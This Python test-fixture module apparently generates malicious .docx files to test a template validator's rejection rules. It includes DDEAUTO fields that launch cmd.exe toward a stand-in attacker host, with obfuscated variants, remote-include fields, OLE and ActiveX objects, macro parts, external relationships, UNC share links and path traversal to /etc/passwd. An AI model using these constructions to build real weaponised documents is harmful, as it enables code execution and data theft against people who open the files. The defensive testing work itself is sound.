"""Attacks by Word files: a template written in Word, or the reference that styles are taken from. Each names the attacker's address."""

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
from attacks import EVIL, Attack

Change = Callable[[bytes], bytes]

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
DDE = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k start https://{EVIL}/"'


def plain() -> bytes:
    """A document with text, a table, a header, a footer and an allowed field."""
    document = docx.Document()
    document.add_paragraph("第一段")
    document.add_paragraph("{{ plan.title }}")
    document.add_table(1, 1).cell(0, 0).text = "单元格"
    document.sections[0].header.paragraphs[0].text = "页眉"
    document.sections[0].footer.paragraphs[0].text = "页脚"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(data: bytes, changes: Mapping[str, Callable[[str], str]], new: Mapping[str, str | bytes] | None = None) -> bytes:
    """Change the text of parts, and add new ones."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name in changes:
                after = changes[name](content.decode()).encode()
                assert after != content, name
                content = after
            target.writestr(name, content)
        for name, content in (new or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def field(*pieces: str, result: str = "1") -> str:
    """A complex field; its instruction in as many runs as there are pieces, which are XML themselves where they start with `<`."""
    code = "".join(
        piece if piece.startswith("<") else _run(f'<w:instrText xml:space="preserve">{_escaped(piece)}</w:instrText>') for piece in pieces
    )
    begin, separate, end = (_run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end"))
    return f"{begin}{code}{separate}{_run(f'<w:t>{result}</w:t>')}{end}"


def simple(instruction: str) -> str:
    """A simple field."""
    return f'<w:fldSimple w:instr="{_escaped(instruction)}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


def in_body(xml: str) -> Change:
    """Put runs into the first paragraph."""
    return lambda data: changed(data, {"word/document.xml": lambda text: text.replace("</w:p>", f"{xml}</w:p>", 1)})


def _in_part(name: str, xml: str) -> Change:
    def change(data: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            part = next(each for each in archive.namelist() if each.startswith(f"word/{name}"))
        return changed(data, {part: lambda text: text.replace("</w:p>", f"{xml}</w:p>", 1)})

    return change


def _in_cell(xml: str) -> Change:
    def into(text: str) -> str:
        head, cell, rest = text.partition("<w:tc>")
        return head + cell + rest.replace("</w:p>", f"{xml}</w:p>", 1)

    return lambda data: changed(data, {"word/document.xml": into})


def _in_new_story(kind: str, xml: str) -> Change:
    """Add a part of footnotes, endnotes or comments."""
    root, inner = {"footnotes": ("footnotes", "footnote"), "endnotes": ("endnotes", "endnote"), "comments": ("comments", "comment")}[kind]
    part = f'<w:{root} {_W}><w:{inner} w:id="2"><w:p>{xml}</w:p></w:{inner}></w:{root}>'
    return with_part(f"word/{kind}.xml", part, kind, f"{_WORD}.{kind}+xml")


def with_part(name: str, content: str | bytes, kind: str, type_: str, source: str = "word/_rels/document.xml.rels") -> Change:
    """Add a part, of a kind of relationship, to those of the document."""
    target = name.removeprefix("word/")
    relation = f'<Relationship Id="rIdX" Type="{kind if ":" in kind else f"{_OFFICE}/{kind}"}" Target="{target}"/></Relationships>'
    override = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'
    return lambda data: changed(
        data,
        {
            source: lambda text: text.replace("</Relationships>", relation),
            "[Content_Types].xml": lambda text: text.replace("</Types>", override),
        },
        {name: content},
    )


def related(kind: str, target: str, *, external: bool = True) -> Change:
    """Have the document refer to something."""
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rIdX" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda data: changed(data, {"word/_rels/document.xml.rels": lambda text: text.replace("</Relationships>", row)})


def _named(name: str) -> Change:
    return lambda data: changed(data, {}, {name: f"<x>{EVIL}</x>"})


_BOX = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:drawing>'
    '<wps:txbx xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:txbxContent><w:p>FIELD</w:p>'
    "</w:txbxContent></wps:txbx></w:drawing></mc:Choice></mc:AlternateContent>"
)
_OBJECT = (
    '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></w:object>'
)
_NESTED = field("QUOTE 68 68 69 65 85 84 79", result="DDEAUTO")

FIELDS: dict[str, tuple[Change, str]] = {
    "simple": (in_body(simple(DDE)), "paragraph 1: “第一段1”"),
    "complex": (in_body(field(DDE)), "paragraph 1: “第一段1”"),
    "split": (in_body(field("DD", "EAU", "TO ", DDE[8:])), "paragraph 1"),
    "split-by-proofing": (in_body(field("D", '<w:proofErr w:type="spellStart"/>', "DEAUTO", DDE[7:])), "paragraph 1"),
    "lower-case": (in_body(simple(DDE.lower())), "paragraph 1"),
    "mixed-case": (in_body(field("dDeAuTo", DDE[7:])), "paragraph 1"),
    "spaces": (in_body(field("\u00a0\t\n\u3000 ", DDE)), "paragraph 1"),
    "plain-dde": (in_body(field(f'DDE "https://{EVIL}"')), "paragraph 1"),
    "include-text": (in_body(field(f'INCLUDETEXT "https://{EVIL}/x.docx"')), "paragraph 1"),
    "include-picture": (in_body(field(f'INCLUDEPICTURE "https://{EVIL}/x.png" \\d')), "paragraph 1"),
    "include": (in_body(field(f'INCLUDE "https://{EVIL}/x.docx"')), "paragraph 1"),
    "import": (in_body(field(f'IMPORT "https://{EVIL}/x.png"')), "paragraph 1"),
    "link": (in_body(field(f'LINK Excel.Sheet.8 "https://{EVIL}/x.xls"')), "paragraph 1"),
    "database": (in_body(field(f'DATABASE \\d "https://{EVIL}/x.mdb"')), "paragraph 1"),
    "referenced-document": (in_body(field(f'RD "https://{EVIL}/x.docx"')), "paragraph 1"),
    "macro-button": (in_body(field(f"MACROBUTTON Run {EVIL}")), "paragraph 1"),
    "auto-text": (in_body(field(f"AUTOTEXT {EVIL}")), "paragraph 1"),
    "printer": (in_body(field(f"PRINT 27 {EVIL}")), "paragraph 1"),
    "fill-in": (in_body(field(f'FILLIN "{EVIL}"')), "paragraph 1"),
    "unheard-of": (in_body(field(f"NEWFIELD https://{EVIL}")), "paragraph 1"),
    "nested": (in_body(field(f'IF 1 = 1 "{EVIL} ', field(DDE), '" "b"')), "paragraph 1"),
    "nested-simple": (in_body(field("IF 1 = 1 ", simple(DDE))), "paragraph 1"),
    "named-by-a-field": (in_body(field(_NESTED, f' c:\\\\cmd.exe "https://{EVIL}"')), "paragraph 1"),
    "named-by-text": (in_body(field(_run("<w:t>DDEAUTO</w:t>"), f' c:\\\\cmd.exe "https://{EVIL}"')), "paragraph 1"),
    "not-begun": (in_body(_run(f"<w:instrText>{_escaped(DDE)}</w:instrText>")), "paragraph 1"),
    "not-ended": (in_body(field(DDE).rpartition("<w:r>")[0]), "paragraph 1"),
    "deleted": (in_body(f'<w:del w:id="1" w:author="x">{field(DDE).replace("instrText", "delInstrText")}</w:del>'), "paragraph 1"),
    "link-to-file": (in_body(field(f'HYPERLINK "file:///C:/{EVIL}.exe"')), "paragraph 1"),
    "link-to-share": (in_body(simple(f'HYPERLINK \\o "看" "\\\\\\\\{EVIL}\\\\x"')), "paragraph 1"),
    "link-in-curly-quotes": (in_body(simple(f"HYPERLINK “file:///{EVIL}”")), "paragraph 1"),
    "link-by-a-field": (in_body(field("HYPERLINK ", field(f'QUOTE "file:///{EVIL}"'))), "paragraph 1"),
    "tag-in-a-field": (in_body(field(f"{{{{ plan.title }}}} https://{EVIL}")), "paragraph 1"),
    "tag-behind-a-name": (in_body(field(f'HYPERLINK "https://{EVIL}/{{{{ plan.title }}}}"')), "paragraph 1"),
    "in-a-cell": (_in_cell(field(DDE)), "table 1, row 1, cell 1"),
    "in-a-header": (_in_part("header", field(DDE)), "header, paragraph 1"),
    "in-a-footer": (_in_part("footer", simple(DDE)), "footer, paragraph 1"),
    "in-a-text-box": (in_body(_run(_BOX.replace("FIELD", field(DDE)))), "text box after paragraph 1"),
    "in-footnotes": (_in_new_story("footnotes", field(DDE)), "footnotes, paragraph 1"),
    "in-endnotes": (_in_new_story("endnotes", simple(DDE)), "endnotes, paragraph 1"),
    "in-comments": (_in_new_story("comments", simple(DDE)), "comments.xml, paragraph 1"),
}
"""Fields: GP630, at a place."""

OBJECTS: dict[str, tuple[Change, str]] = {
    "ole": (in_body(_run(_OBJECT)), "paragraph 1"),
    "ole-part": (with_part("word/embeddings/oleObject1.bin", b"\0" + EVIL.encode(), "oleObject", "application/x"), "an embedded object"),
    "workbook": (with_part("word/embeddings/x.xlsx", b"PK" + EVIL.encode(), "package", "application/x"), "an embedded file"),
    "control": (in_body(_run(f'<w:control w:name="{EVIL}"/>')), "an ActiveX control"),
    "control-part": (with_part("word/activeX/activeX1.xml", f"<ocx>{EVIL}</ocx>", "control", "application/x"), "an ActiveX control"),
    "alternative": (with_part("word/chunk.html", f"<html>{EVIL}</html>", "aFChunk", "text/html"), "another file as a part of the text"),
    "alternative-element": (in_body(f'<w:altChunk w:name="{EVIL}"/>'), "another file as a part of the text"),
    "video": (
        in_body(
            '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
            f'embeddedHtml="&lt;iframe src=https://{EVIL}&gt;"/>'
        ),
        "a video from the web",
    ),
    "drawing-source": (
        in_body(_run(f'<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://{EVIL}/x.png"/></w:pict>')),
        "<imagedata> loads",
    ),
    "drawing-link": (
        in_body(_run(f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file:///{EVIL}"/></w:pict>')),
        "<shape> loads",
    ),
    "mail-merge": (
        lambda data: changed(
            data,
            {
                "word/settings.xml": lambda text: text.replace(
                    "</w:settings>", f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge></w:settings>'
                )
            },
        ),
        "the data source of a mail merge",
    ),
    "macro-toolbars": (
        with_part(
            "word/attachedToolbars.bin", EVIL, "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars", "application/x"
        ),
        "a set of toolbars",
    ),
    "add-in": (
        with_part(
            "word/webextensions/taskpanes.xml",
            f"<x>{EVIL}</x>",
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "application/x",
        ),
        "an add-in",
    ),
    "unknown-part": (lambda data: changed(data, {}, {"word/data.bin": b"\0\1" + EVIL.encode()}), "neither text nor a picture"),
}
"""What a Word file may not hold: GP631, with these words."""

NAMES: dict[str, tuple[Change, str]] = {
    "climbs": (_named("../evil.xml"), "leads elsewhere"),
    "climbs-encoded": (_named("word/%2e%2e/%2E./evil.xml"), "leads elsewhere"),
    "absolute": (_named("/etc/evil.xml"), "absolute"),
    "drive": (_named("C:/evil.xml"), "absolute"),
    "backslash": (_named("word\\..\\evil.xml"), "has an invalid name"),
    "control": (_named("word/ev\x01il.xml"), "has an invalid name"),
    "twice": (_named("word/document.xml"), "appears twice"),
    "twice-but-for-case": (_named("WORD/Document.XML"), "appears twice"),
    "refers-out": (related("image", "../../../etc/passwd", external=False), "not in it"),
    "refers-to-a-file": (related("image", f"file:///{EVIL}", external=False), "not in it"),
}
"""Unsafe names: GP632."""

OUTSIDE: dict[str, tuple[Change, str]] = {
    "image": (related("image", f"https://{EVIL}/x.png"), "takes its image from"),
    "object": (related("oleObject", f"file:///{EVIL}"), "takes its oleObject from"),
    "link": (related("hyperlink", f"file:///{EVIL}"), "links to"),
    "settings": (
        lambda data: changed(
            data,
            {},
            {
                "word/_rels/styles.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{_OFFICE}/frame" Target="https://{EVIL}" TargetMode="External"/></Relationships>'
            },
        ),
        "takes its frame from",
    ),
    "macros": (lambda data: changed(data, {}, {"word/vbaProject.bin": EVIL}), "macros"),
    "macro-type": (
        lambda data: changed(
            data,
            {
                "[Content_Types].xml": lambda text: text.replace(
                    '"application/xml"', '"application/vnd.ms-word.document.macroEnabled.main+xml"'
                )
            },
        ),
        "macros",
    ),
}
"""What stands outside, and macros: GP615."""

EVERY = {
    **{f"field-{name}": change for name, (change, _) in FIELDS.items()},
    **{f"object-{name}": change for name, (change, _) in OBJECTS.items()},
    **{f"name-{name}": change for name, (change, _) in NAMES.items()},
    **{f"outside-{name}": change for name, (change, _) in OUTSIDE.items()},
}


def templates() -> Attack:
    """All of them as templates written in Word, each a kind of its own."""
    files: dict[str, str | bytes] = {}
    for name, change in EVERY.items():
        files[f"templates/kinds/{name}.docx"] = change(plain())
        files[f"templates/kinds/{name}.yml"] = "title: 通知\nscope: plan\n"
    return Attack(files, kinds=tuple(EVERY))
